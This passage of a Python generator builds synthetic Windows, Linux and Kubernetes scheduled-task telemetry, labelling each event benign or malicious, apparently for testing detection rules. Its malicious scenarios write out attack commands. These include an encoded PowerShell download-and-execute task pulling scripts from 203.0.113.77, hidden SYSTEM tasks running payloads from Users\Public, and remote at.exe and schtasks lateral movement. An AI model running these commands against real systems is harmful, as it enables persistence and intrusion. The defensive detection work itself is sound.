                    A_scheduled_task_was_created=[29]))
        if rng.random() < 0.5:
            break


def b_firefox(host, day, update=False):
    u = HOSTS[host]["primary"]
    t = work_time(day)
    name = "\\Mozilla\\Firefox Background Update 308046B0AF4A39CB"
    x = task_xml(t, "Mozilla", name, [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT7H" if not update else "PT6H")],
                 "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "--backgroundtask backgroundupdate",
                 user_id=usid(u), logon_type="S4U", description="The Background Update task checks for updates to "
                 "Firefox while Firefox is not running.")
    if update:
        emit(task4698(host, t, duser(u), name, x, code=4702),
             benign("Firefox upgrade re-registers its Background Update task", A_scheduled_task_was_updated=[29]))
    else:
        emit(task4698(host, t, duser(u), name, x),
             benign("Firefox install registers Background Update task", A_scheduled_task_was_created=[29]))


def b_teamviewer_tmp(host, day):
    """TeamViewer installer creates and deletes TVInstallRestore within seconds (known installer pattern)."""
    u = HOSTS[host]["primary"]
    t = work_time(day)
    name = "\\TVInstallRestore"
    x = task_xml(t, "CORP\\" + u, name, [trig_once(boundary(t, t.hour, t.minute, 0))],
                 "C:\\Program Files\\TeamViewer\\TeamViewer.exe", "--install-restore", user_id="S-1-5-18",
                 logon_type="ServiceAccount", run_level="HighestAvailable")
    sc = "TeamViewer installer: short-lived TVInstallRestore task"
    c = task4698(host, t, duser(u), name, x)
    emit(dict(c), benign(sc, A_scheduled_task_was_created=[29]))
    d = task4698(host, t + timedelta(seconds=rng.randrange(3, 15)), duser(u), name, x, code=4699)
    emit(dict(kind="tmp_task", host=host, time=d["time"], created=c, deleted=d),
         benign(sc, Temporarily_Scheduled_Task_Creation=[29]))


def b_google_job(host, day):
    t = work_time(day)
    emit(wfile(host, t, SYSTEM, "C:\\Windows\\Tasks\\GoogleUpdateTaskMachineCore.job",
               "C:\\Windows\\System32\\svchost.exe"),
         benign("Google Update (Chrome Enterprise MSI) writes legacy .job file", Persistence_via_Scheduled_Job_Creation=[28]))


def b_vantage_run(host, day):
    u = HOSTS[host]["primary"]
    t = at(day, rng.choice([8, 9]), rng.randrange(60))
    vbs = "C:\\ProgramData\\Lenovo\\Vantage\\AddinData\\LenovoBatteryGaugeAddin\\x64\\BatteryGaugeMaintenance.vbs"
    emit(proc(host, t, duser(u), "C:\\Windows\\System32\\wscript.exe", 'wscript.exe //B //NoLogo "%s"' % vbs,
              "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
              integrity="medium", cwd="C:\\Windows\\system32\\"),
         benign("Lenovo Vantage logon task runs wscript from ProgramData", Suspicious_Execution_via_Scheduled_Task=[30]))


def b_script_install(host, day):
    """Intune Win32 app: PowerShell install script registers its updater task via Register-ScheduledTask."""
    t = work_time(day)
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    cmd = ('"%s" -NoProfile -ExecutionPolicy Bypass -File ".\\Install-PrinterHub.ps1" -Mode Install' % ps)
    emit(dict(kind="script_task", host=host, time=t, user=SYSTEM, image=ps, cmdline=cmd, pid=win_pid(),
              parent_image="C:\\Program Files (x86)\\Microsoft Intune Management Extension\\IntuneWindowsAgent.exe",
              task_key=det_guid_braced("pp", host)),
         benign("Intune Win32 app install script registers PrinterHub updater task",
                Scheduled_Task_Created_by_a_Windows_Script=[29]))


# ---------------------------------------------------------------- benign: management / admin

IME = "C:\\Program Files (x86)\\Microsoft Intune Management Extension"


def b_intune_mapdrives(host, day):
    t = at(day, rng.randrange(7, 19), rng.randrange(60))
    script = "%s\\Policies\\Scripts\\%s_%s.ps1" % (IME, det_uuid("pol", "mapdrives"), det_uuid("usr", host))
    cmd = 'schtasks.exe /Create /TN "\\Corp\\MapNetworkDrives" /XML "C:\\ProgramData\\Corp\\Tasks\\MapNetworkDrives.xml" /F'
    sc = "Intune management script imports logon task MapNetworkDrives (XML in ProgramData)"
    emit(proc(host, t, SYSTEM, "C:\\Windows\\System32\\schtasks.exe", cmd,
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -executionPolicy bypass '
              '-file  "%s" ' % script, integrity="system"),
         benign(sc, Windows_Scheduled_Task_Created_Via_XML=[21], Suspicious_Scheduled_Task_from_Public_Directory=[37]))
    x = task_xml(t, "CORP\\IT Client Engineering", "\\Corp\\MapNetworkDrives", [trig_logon()], "wscript.exe",
                 '//B //NoLogo "\\\\corp.example.com\\NETLOGON\\MapDrives.vbs"', group_id="S-1-5-32-545",
                 description="Maps department drives at logon (Intune policy CORP-WKS-Drives).")
    emit(task4698(host, t + timedelta(milliseconds=180), machine(host), "\\Corp\\MapNetworkDrives", x),
         benign(sc, WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))


def b_choco(host, day):
    t = at(day, rng.randrange(7, 19), rng.randrange(60))
    cmd = ('schtasks.exe /Create /TN "\\Corp\\ChocoUpgradeAll" /TR "C:\\ProgramData\\chocolatey\\bin\\choco.exe upgrade all '
           '-y --no-progress" /SC DAILY /ST 12:30 /RU SYSTEM /F')
    emit(proc(host, t, SYSTEM, "C:\\Windows\\System32\\schtasks.exe", cmd, "%s\\AgentExecutor.exe" % IME,
              '"%s\\AgentExecutor.exe" -powershell "%s\\Policies\\Scripts\\%s_choco.ps1"' % (IME, IME, det_uuid("choco")),
              integrity="system"),
         benign("Intune script schedules Chocolatey upgrade (ProgramData, SYSTEM) on developer workstations",
                Suspicious_Scheduled_Task_from_Public_Directory=[37], Windows_Schtasks_Create_Run_As_System=[18]))


SCCM_PS = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo -Noninteractive -NoProfile '
           '-ExecutionPolicy Bypass "& \'C:\\Windows\\CCM\\ScriptStore\\%s_%s.ps1\'"')


def b_sccm_cache(host, day):
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    g = det_uuid("sccm-cache").upper()
    cmd = ('schtasks.exe /Create /TN "\\Corp\\CMClientCacheCleanup" /TR "powershell.exe -NoProfile -ExecutionPolicy '
           'Bypass -File C:\\Windows\\CCM\\ScriptStore\\Clear-CMCache.ps1 -KeepDays 14" /SC WEEKLY /D SAT /ST 04:00 /RU SYSTEM /F')
    sc = "SCCM Run Script registers weekly ccmcache cleanup task (SYSTEM)"
    emit(proc(host, t, SYSTEM, "C:\\Windows\\System32\\schtasks.exe", cmd,
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              SCCM_PS % (g, det_hex("s1", n=64).upper()), integrity="system"),
         benign(sc, Windows_Schtasks_Create_Run_As_System=[18]))
    x = task_xml(t, "CORP\\svc_sccm", "\\Corp\\CMClientCacheCleanup", [trig_weekly(boundary(t, 4, 0, 0), "Saturday")],
                 "powershell.exe", "-NoProfile -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\ScriptStore\\Clear-CMCache.ps1 -KeepDays 14",
                 user_id="S-1-5-18", logon_type="ServiceAccount", principal_id="System")
    emit(task4698(host, t + timedelta(milliseconds=150), machine(host), "\\Corp\\CMClientCacheCleanup", x),
         benign(sc, WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))


def b_sccm_reboot(host, day):
    t = at(day, rng.randrange(15, 18), rng.randrange(60))
    g = det_uuid("sccm-reboot").upper()
    sd = (t + timedelta(days=2)).strftime("%m/%d/%Y")
    cmd = ('schtasks.exe /Create /TN "\\Corp\\PatchReboot" /TR "shutdown.exe /r /t 300 /c \\"Monthly patching: '
           'reboot in 5 minutes\\"" /SC ONCE /SD %s /ST 02:30 /RU SYSTEM /F' % sd)
    emit(proc(host, t, SYSTEM, "C:\\Windows\\System32\\schtasks.exe", cmd,
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              SCCM_PS % (g, det_hex("s2", n=64).upper()), integrity="system"),
         benign("SCCM patch-window script schedules one-time reboot task after Patch Tuesday",
                Schtasks_used_for_forcing_a_reboot=[38], Windows_Schtasks_Create_Run_As_System=[18]))


def b_admin_backup(host, day):
    t = at(day, rng.randrange(10, 17), rng.randrange(60))
    cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /TN "\\Corp\\NightlyBackup" /TR "powershell.exe -NoProfile '
           '-ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1 -Target \\\\srv-file-01\\backup$" /SC DAILY /ST 01:00 '
           '/RU CORP\\svc_backup /RP ********')
    sc = "adm_mkoenig registers NightlyBackup task on a server (interactive admin)"
    emit(proc(host, t, duser("adm_mkoenig"), "C:\\Windows\\System32\\schtasks.exe", cmd,
              "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -File \\\\srv-file-01\\it$\\deploy\\register-backup.ps1'),
         benign(sc, Local_Scheduled_Task_Creation=[],
                # "system" only matches via ...\system32\schtasks.exe: the task runs as svc_backup
                Windows_Schtasks_Create_Run_As_System=[]))
    x = task_xml(t, "CORP\\adm_mkoenig", "\\Corp\\NightlyBackup", [trig_daily(boundary(t, 1, 0))], "powershell.exe",
                 "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1 -Target \\\\srv-file-01\\backup$ > "
                 "C:\\Scripts\\logs\\backup.log 2>&1", workdir="C:\\Scripts", user_id="CORP\\svc_backup",
                 logon_type="Password")
    emit(task4698(host, t + timedelta(milliseconds=420), duser("adm_mkoenig"), "\\Corp\\NightlyBackup", x),
         benign(sc, WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13], A_scheduled_task_was_created=[]))


def b_admin_remote(target, day, admin):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    cmd = ('schtasks.exe /Create /S %s.corp.example.com /U CORP\\%s /P ******** /TN "\\Corp\\LogCleanup" /TR '
           '"powershell.exe -NoProfile -File D:\\Ops\\Clear-OldLogs.ps1 -Days 30" /SC WEEKLY /D SUN /ST 03:00 '
           '/RU CORP\\svc_backup /RP ********' % (target, admin))
    sc = "%s creates LogCleanup task remotely from jump host jmp-01" % admin
    emit(proc("jmp-01", t, duser(admin), "C:\\Windows\\System32\\schtasks.exe", cmd, "C:\\Windows\\System32\\cmd.exe",
              '"C:\\Windows\\system32\\cmd.exe" '),
         benign(sc, Schtasks_scheduling_job_on_remote_system=[42], Local_Scheduled_Task_Creation=[]))
    x = task_xml(t, "CORP\\" + admin, "\\Corp\\LogCleanup", [trig_weekly(boundary(t, 3, 0), "Sunday")], "powershell.exe",
                 "-NoProfile -File D:\\Ops\\Clear-OldLogs.ps1 -Days 30", user_id="CORP\\svc_backup",
                 logon_type="Password")
    emit(task4698(target, t + timedelta(milliseconds=900), duser(admin), "\\Corp\\LogCleanup", x, remote=True),
         benign(sc, WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13], A_scheduled_task_was_created=[],
                Remote_Scheduled_Task_Creation_via_RPC=[]))


def b_admin_remote_run(target, day, admin):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    cmd = 'schtasks.exe /Run /S %s.corp.example.com /TN "\\Corp\\NightlyBackup"' % target
    emit(proc("jmp-01", t, duser(admin), "C:\\Windows\\System32\\schtasks.exe", cmd, "C:\\Windows\\System32\\cmd.exe",
              '"C:\\Windows\\system32\\cmd.exe" '),
         benign("%s runs NightlyBackup on demand from jump host to test the task" % admin,
                Scheduled_Task_Initiation_on_Remote_Endpoint=[7], Schtasks_Run_Task_On_Demand=[10]))


def b_admin_local_run(host, day):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    task = rng.choice(["\\Corp\\NightlyBackup", "\\Corp\\LogCleanup"])
    emit(proc(host, t, duser("adm_mkoenig"), "C:\\Windows\\System32\\schtasks.exe", 'schtasks /run /tn "%s"' % task,
              "C:\\Windows\\System32\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" '),
         benign("admin re-runs a maintenance task by hand while debugging it", Schtasks_Run_Task_On_Demand=[10]))


GPO_WKS = "{8E1B3F52-6C0A-4F4B-9D7E-2A5C1B3D4E6F}"


def share5145(host, when, subject, ip, rel):
    return dict(kind="5145", host=host, time=when, subject=subject, ip=ip, port=str(rng.randrange(49152, 65535)),
                rel=rel, logon_id="0x%x" % rng.randrange(0x100000, 0xffffff), record_id=str(rng.randrange(1000000, 9000000)))


def b_gpo_local(dc, day):
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    rel = "corp.example.com\\Policies\\%s\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml" % GPO_WKS
    sc = "adm_jschulz edits workstation-maintenance GPO tasks in GPMC on the DC (loopback)"
    emit(share5145(dc, t, duser("adm_jschulz"), rng.choice(["::1", "127.0.0.1"]), rel),
         benign(sc, Scheduled_Task_Execution_at_Scale_via_GPO=[]))
    emit(wfile(dc, t + timedelta(milliseconds=35), duser("adm_jschulz"),
               "C:\\Windows\\SYSVOL\\domain\\Policies\\%s\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml" % GPO_WKS,
               None, pid=4),
         benign(sc, Creation_or_Modification_of_a_new_GPO_Scheduled_Task_or_Service=[]))


# ---------------------------------------------------------------- benign: Linux

def b_dpkg_cron(host, day, pkg, path):
    t = at(day, rng.choice([6, 10, 14, 22]), rng.randrange(60))
    apt = rng.choice([("/usr/bin/apt-get", "apt-get -y upgrade"),
                      ("/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade")])
    emit(lfile(host, t, "root", path + ".dpkg-new", "/usr/bin/dpkg",
               "/usr/bin/dpkg --status-fd 37 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/%s" % pkg,
               apt[0], apt[1]),
         benign("dpkg unpacks %s during package upgrade (writes %s)" % (pkg.split("_")[0], path),
                Linux_Add_Files_In_Known_Crontab_Directories=[2]))


def b_admin_cron_file(host, day, name, src):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    sc = "adm_backup installs maintenance cron file %s from config repo" % name
    emit(lfile(host, t, "root", "/etc/cron.d/" + name, "/usr/bin/install",
               "install -o root -g root -m 0644 %s /etc/cron.d/%s" % (src, name), "/usr/bin/sudo",
               "sudo install -o root -g root -m 0644 %s /etc/cron.d/%s" % (src, name)),
         benign(sc, Linux_Add_Files_In_Known_Crontab_Directories=[2], Cron_Job_Created_or_Modified=[]))


def b_admin_cron_append(host, day, line, path):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    cmd = "/bin/bash -c echo '%s' >> %s" % (line, path)
    emit(lproc(host, t, "root", "/usr/bin/bash", cmd, "/usr/bin/sudo", "sudo bash -c \"echo '%s' >> %s\"" % (line, path)),
         benign("admin appends a maintenance line to an existing cron file",
                Linux_Possible_Append_Cronjob_Entry_on_Existing_Cronjob_File=[14]))


def b_crontab_edit(host, day, user):
    t = at(day, rng.randrange(9, 18), rng.randrange(60))
    emit(lproc(host, t, user, "/usr/bin/crontab", "crontab -e", "/usr/bin/bash", "-bash", uid="1001"),
         benign("%s edits own crontab interactively (crontab -e)" % user, Linux_Edit_Cron_Table_Parameter=[4]))


def b_crontab_list(host, day):
    t = at(day, 5, rng.randrange(0, 10))
    emit(lproc(host, t, "root", "/usr/bin/crontab", "crontab -l -u deploy", "/usr/bin/bash",
               "/bin/bash /usr/local/sbin/inventory-cron.sh"),
         benign("nightly inventory script lists crontabs (crontab -l)", Linux_Adding_Crontab_Using_List_Parameter=[4]))


def b_deploy_crontab(host, day):
    t = at(day, rng.choice([0, 6, 12, 18]), 0, rng.randrange(1, 4))
    emit(lproc(host, t, "deploy", "/usr/bin/crontab", "crontab /srv/app/current/ops/crontab.txt", "/usr/sbin/cron",
               "/usr/sbin/cron -f", uid="1001"),
         benign("deploy user's cron job re-installs crontab from the release", Potential_Persistence_via_Cron_Job=[32]))


def b_admin_timer(host, day, unit):
    t = at(day, rng.randrange(9, 17), rng.randrange(60))
    sc = "adm_backup installs %s backup service/timer units" % unit
    for ext in ("service", "timer"):
        emit(lfile(host, t + timedelta(seconds=1 if ext == "timer" else 0), "root",
                   "/etc/systemd/system/%s.%s" % (unit, ext), "/usr/bin/install",
                   "install -m 0644 /opt/ops/units/%s.%s /etc/systemd/system/" % (unit, ext), "/usr/bin/sudo",
                   "sudo install -m 0644 /opt/ops/units/%s.%s /etc/systemd/system/" % (unit, ext)),
             benign(sc, Linux_Service_File_Created_In_Systemd_Directory=[16], Systemd_Timer_Created=[]))
    emit(lproc(host, t + timedelta(seconds=rng.randrange(20, 90)), "root", "/usr/bin/systemctl",
               "systemctl enable --now %s.timer" % unit, "/usr/bin/sudo", "sudo systemctl enable --now %s.timer" % unit),
         benign(sc, Linux_Service_Started_Or_Enabled=[5]))


def b_restart(host, day, svc):
    t = at(day, rng.randrange(8, 20), rng.randrange(60))
    verb = rng.choice(["restart", "reload"])
    emit(lproc(host, t, "root", "/usr/bin/systemctl", "systemctl %s %s" % (verb, svc), "/usr/bin/sudo",
               "sudo systemctl %s %s" % (verb, svc)),
         benign("admin %ss %s after a config change" % (verb, svc), Linux_Service_Restarted=[5]))


def b_admin_at(host, day):
    t = at(day, rng.randrange(15, 18), rng.randrange(60))
    sc = "admin schedules one-off maintenance with at"
    emit(lproc(host, t, "root", "/usr/bin/at", "at 02:00 tomorrow", "/usr/bin/bash", "-bash"),
         benign(sc, Linux_At_Application_Execution=[4]))
    emit(lfile(host, t + timedelta(milliseconds=40), "root", "/var/spool/cron/atjobs/a%05x%s" % (rng.randrange(1, 200),
               det_hex("atj", host, day, n=8)), "/usr/bin/at", "at 02:00 tomorrow", "/usr/bin/bash", "-bash"),
         benign(sc, At_Job_Created_or_Modified=[], Linux_Add_Files_In_Known_Crontab_Directories=[2]))


KUBECTL_UA = "kubectl/v1.30.4 (linux/amd64) kubernetes/a51b3b7"
ARGO_UA = "argocd-application-controller/v2.12.3+6b9cd82 (linux/amd64) kubernetes/$Format"
CI_GROUPS = "system:serviceaccounts\nsystem:serviceaccounts:ci\nsystem:authenticated"


def b_k8s(day, ns, name, schedule, image, via):
    t = at(day, rng.randrange(9, 19), rng.randrange(60))
    if via == "kubectl":
        user, ip, ua, groups = "system:serviceaccount:ci:deployer", "10.20.40.30", KUBECTL_UA, CI_GROUPS
        sc = "CI pipeline (ci:deployer, kubectl on build-01) re-creates CronJob %s/%s on deploy" % (ns, name)
    else:
        user, ip, ua = "system:serviceaccount:argocd:argocd-application-controller", "10.244.3.17", ARGO_UA
        groups = "system:serviceaccounts\nsystem:serviceaccounts:argocd\nsystem:authenticated"
        sc = "Argo CD sync creates CronJob %s/%s" % (ns, name)
    emit(k8s(t, user, ip, ua, ns, name, schedule, image, None, groups), benign(sc, Kubernetes_Cron_Job_Creation=[]))


# ---------------------------------------------------------------- malicious stories

def m_invoice_dropper():
    host, u = "wks-fin-018", "ehoffmann"
    t = at(3, 10, 12)
    drop = "C:\\Users\\%s\\AppData\\Local\\Temp\\Invoice_2026-1187.exe" % u
    enc = ps_enc("$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
                 "IEX $c.DownloadString('http://203.0.113.77/upd/a.ps1')")
    sc = "Invoice dropper in Temp: encoded PowerShell logon task as SYSTEM"
    cmd = ('schtasks.exe /create /sc onlogon /tn "\\Microsoft\\Windows\\WindowsUpdate\\WUCheck" /tr '
           '"powershell.exe -nop -w hidden -enc %s" /ru SYSTEM /rl highest /f' % enc)
    emit(proc(host, t, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd, drop, '"%s" --silent' % drop,
              parent_trusted=False, parent_signer=None), bad(sc))
    x = task_xml(t, "CORP\\" + u, "\\Microsoft\\Windows\\WindowsUpdate\\WUCheck", [trig_logon()], "powershell.exe",
                 "-nop -w hidden -enc " + enc, user_id="S-1-5-18", logon_type="ServiceAccount",
                 run_level="HighestAvailable")
    emit(task4698(host, t + timedelta(milliseconds=380), duser(u), "\\Microsoft\\Windows\\WindowsUpdate\\WUCheck", x), bad(sc))
    t2 = t + timedelta(minutes=18, seconds=41)
    sc2 = "Invoice dropper: hourly download-cradle task (IEX DownloadString from 203.0.113.77)"
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/s.ps1')"
    cmd2 = ('schtasks.exe /create /sc minute /mo 60 /tn "OfficeTelemetrySync" /tr "powershell.exe -w hidden -c '
            '\\"%s\\"" /f' % cradle)
    emit(proc(host, t2, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd2, drop, '"%s" --silent' % drop,
              parent_trusted=False, parent_signer=None), bad(sc2))
    x2 = task_xml(t2, "CORP\\" + u, "\\OfficeTelemetrySync", [trig_repeat(boundary(t2, t2.hour, t2.minute, 0), "PT1H")],
                  "powershell.exe", '-w hidden -c "%s"' % cradle, user_id=usid(u))
    emit(task4698(host, t2 + timedelta(milliseconds=210), duser(u), "\\OfficeTelemetrySync", x2), bad(sc2))


def m_public_dir():
    host, u = "wks-mkt-009", "sokafor"
    t0 = at(7, 14, 31)
    pub = "C:\\Users\\Public\\Libraries"
    sc0 = "Phishing VBS in Users\\Public registers a task through the COM API"
    emit(dict(kind="script_task", host=host, time=t0, user=duser(u), image="C:\\Windows\\System32\\wscript.exe",
              cmdline='"C:\\Windows\\System32\\WScript.exe" "%s\\stage.vbs"' % pub, pid=win_pid(),
              parent_image="C:\\Windows\\explorer.exe", task_key="{0F3A1C27-PUBLIC}"), bad(sc0))
    t = t0 + timedelta(minutes=9, seconds=12)
    sc = "Users\\Public payload: OneDriveSyncHelper task every 30 min as SYSTEM"
    cmd = 'schtasks /create /sc minute /mo 30 /tn "OneDriveSyncHelper" /tr "%s\\odsync.exe" /ru SYSTEM /f' % pub
    pcmd = "C:\\Windows\\system32\\cmd.exe /c %s\\inst.bat" % pub
    emit(proc(host, t, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd, "C:\\Windows\\System32\\cmd.exe", pcmd), bad(sc))
    x = task_xml(t, "CORP\\" + u, "\\OneDriveSyncHelper", [trig_repeat(boundary(t, t.hour, t.minute, 0), "PT30M")],
                 pub + "\\odsync.exe", user_id="S-1-5-18", logon_type="ServiceAccount")
    emit(task4698(host, t + timedelta(milliseconds=260), duser(u), "\\OneDriveSyncHelper", x), bad(sc))
    t2 = t + timedelta(seconds=7)
    sc2 = "Users\\Public payload: hidden rundll32 boot task imported from XML"
    cmd2 = ('schtasks /create /xml C:\\Users\\Public\\Documents\\fs.xml /tn "\\Microsoft\\Windows\\Shell\\FamilySafetyUpdate"')
    emit(proc(host, t2, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd2, "C:\\Windows\\System32\\cmd.exe", pcmd), bad(sc2))
    x2 = task_xml(t2, "Microsoft Corporation", "\\Microsoft\\Windows\\Shell\\FamilySafetyUpdate", [trig_boot()],
                  "rundll32.exe", "C:\\Users\\Public\\Documents\\msfs.dll,DllRegisterServer", user_id="S-1-5-18",
                  logon_type="ServiceAccount", run_level="HighestAvailable", hidden=True)
    emit(task4698(host, t2 + timedelta(milliseconds=190), duser(u), "\\Microsoft\\Windows\\Shell\\FamilySafetyUpdate", x2), bad(sc2))
    t3 = at(8, 9, 2)
    emit(proc(host, t3, duser(u), "C:\\Windows\\System32\\wscript.exe", 'wscript.exe //B "%s\\upd.vbs"' % pub,
              "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
              integrity="medium", cwd="C:\\Windows\\system32\\"),
         bad("Users\\Public payload: scheduled task runs upd.vbs via wscript"))


def m_lateral():
    src, u = "wks-hr-005", "lnguyen"
    sc_reg = "Compromised HR account: EnableAt set to re-enable at.exe"
    t = at(9, 22, 31)
    emit(dict(kind="reg", host=src, time=t, user=duser(u), image="C:\\Windows\\System32\\reg.exe",
              cmdline='reg.exe add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration" '
                      '/v EnableAt /t REG_DWORD /d 1 /f', pid=win_pid()), bad(sc_reg))
    t1 = t + timedelta(minutes=3, seconds=5)
    sc_at = "Compromised HR account: at.exe job on srv-file-01 (lateral movement)"
    emit(proc(src, t1, duser(u), "C:\\Windows\\System32\\at.exe",
              'at.exe \\\\srv-file-01 23:30 "cmd /c C:\\Windows\\Temp\\svch.exe"', "C:\\Windows\\System32\\cmd.exe",
              '"C:\\Windows\\system32\\cmd.exe" '), bad(sc_at))
    emit(wfile("srv-file-01", t1 + timedelta(milliseconds=700), SYSTEM, "C:\\Windows\\Tasks\\At1.job",
               "C:\\Windows\\System32\\svchost.exe"), bad(sc_at))
    x = task_xml(t1, None, "\\At1", [trig_once(boundary(t1, 23, 30, 0))], "cmd", "/c C:\\Windows\\Temp\\svch.exe",
                 user_id="S-1-5-18", logon_type="ServiceAccount")
    emit(task4698("srv-file-01", t1 + timedelta(milliseconds=720), duser(u), "\\At1", x, remote=True), bad(sc_at))
    t2 = t1 + timedelta(minutes=6, seconds=40)
    sc = "Compromised HR account: remote schtasks /s to srv-app-03 running Windows\\Temp payload as SYSTEM"
    tn = "\\Microsoft\\Windows\\Maintenance\\SvcHealth"
    cmd = ('schtasks /create /s srv-app-03 /u CORP\\lnguyen /p ******** /tn "%s" /tr "C:\\Windows\\Temp\\svch.exe" '
           '/sc once /st 23:55 /ru SYSTEM /f' % tn)
    emit(proc(src, t2, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd, "C:\\Windows\\System32\\cmd.exe",
              '"C:\\Windows\\system32\\cmd.exe" '), bad(sc))
    x = task_xml(t2, "CORP\\" + u, tn, [trig_once(boundary(t2, 23, 55, 0))], "C:\\Windows\\Temp\\svch.exe",
                 user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
    emit(task4698("srv-app-03", t2 + timedelta(milliseconds=850), duser(u), tn, x, remote=True), bad(sc))
    t3 = t2 + timedelta(seconds=44)
    emit(proc(src, t3, duser(u), "C:\\Windows\\System32\\schtasks.exe", 'schtasks /run /s srv-app-03 /tn "%s"' % tn,
              "C:\\Windows\\System32\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" '),
         bad("Compromised HR account: starts the remote task immediately (/run /s)"))
    # atexec-style: random 8-char task, output to Windows\Temp, deleted seconds later
    t4 = at(9, 23, 48)
    name = "\\kRtQwZpL"
    sc4 = "atexec-style remote task on srv-app-01 (random name, created and deleted in seconds)"
    x = task_xml(t4, None, name, [trig_once("2015-07-15T20:35:13")], "cmd.exe",
                 "/C whoami /all > C:\\Windows\\Temp\\kRtQwZpL.tmp 2>&1", user_id="S-1-5-18",
                 logon_type=None, run_level="HighestAvailable", principal_id="LocalSystem")
    c = task4698("srv-app-01", t4, duser(u), name, x, remote=True)
    emit(dict(c), bad(sc4))
    d = task4698("srv-app-01", t4 + timedelta(seconds=6), duser(u), name, x, remote=True, code=4699)
    emit(dict(kind="tmp_task", host="srv-app-01", time=d["time"], created=c, deleted=d), bad(sc4))


def m_atomic_windows():
    host, u = "wks-dev-014", "tbrown"
    base = at(11, 15, 20)
    par = ("C:\\Windows\\System32\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c schtasks /create ...')
    tests = [
        ("T1053.005 #1", 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"',
         "\\T1053_005_OnLogon", [trig_logon()], "cmd.exe", "/c calc.exe", usid(u), "InteractiveToken"),
        ("T1053.005 #1", 'schtasks /create /tn "T1053_005_OnStartup" /sc onstart /ru system /tr "cmd.exe /c calc.exe"',
         "\\T1053_005_OnStartup", [trig_boot()], "cmd.exe", "/c calc.exe", "S-1-5-18", "ServiceAccount"),
        ("T1053.005 #3", 'SCHTASKS /Create /S localhost /RU DOMAIN\\user /RP At0micStrong /TN "Atomic task" '
                         '/TR "C:\\windows\\system32\\cmd.exe" /SC daily /ST 20:10', None, None, None, None, None, None),
    ]
    for i, (tid, cmd, tn, trig, c, a, uid, lt) in enumerate(tests):
        t = base + timedelta(seconds=9 * i, milliseconds=rng.randrange(900))
        sc = "Unsanctioned Atomic Red Team run (%s) on developer workstation" % tid
        pc = '"C:\\Windows\\system32\\cmd.exe" /c ' + cmd
        emit(proc(host, t, duser(u), "C:\\Windows\\System32\\schtasks.exe", cmd, par[0], pc), bad(sc))
        if tn:
            x = task_xml(t, "CORP\\" + u, tn, trig, c, a, user_id=uid, logon_type=lt)
            emit(task4698(host, t + timedelta(milliseconds=240), duser(u), tn, x), bad(sc))


def m_atomic_linux():
    host = "build-01"
    t = at(11, 16, 4)
    sc = "Unsanctioned Atomic Red Team run (T1053.003 #3) via sudo on build-01"
    line = "echo 'Hello from Atomic Red Team' > /tmp/atomic.log"
    art = ("/opt/microsoft/powershell/7/pwsh", "pwsh -NoProfile -Command Invoke-AtomicTest T1053.003 -TestNumbers 3")
    bcmd = '/bin/bash -c echo "%s" >> /var/spool/cron/crontabs/persistevil' % line
    emit(lproc(host, t, "root", "/usr/bin/bash", bcmd, art[0], art[1]), bad(sc))
    emit(lfile(host, t + timedelta(milliseconds=12), "root", "/var/spool/cron/crontabs/persistevil", "/usr/bin/bash",
               bcmd, art[0], art[1]), bad(sc))
    t2 = t + timedelta(seconds=31)
    sc2 = "Unsanctioned Atomic Red Team run (T1053.002 #2, at) on build-01"
    emit(lproc(host, t2, "tbrown", "/usr/bin/at", "at now + 1 minute", "/usr/bin/sh",
               '/bin/sh -c echo "echo Hello from Atomic Red Team" | at now + 1 minute', uid="1014"), bad(sc2))
    emit(lfile(host, t2 + timedelta(milliseconds=30), "tbrown", "/var/spool/cron/atjobs/a0001a01d4f7c2",
               "/usr/bin/at", "at now + 1 minute", "/usr/bin/sh", uid="1014"), bad(sc2))
    t3 = t2 + timedelta(seconds=22)
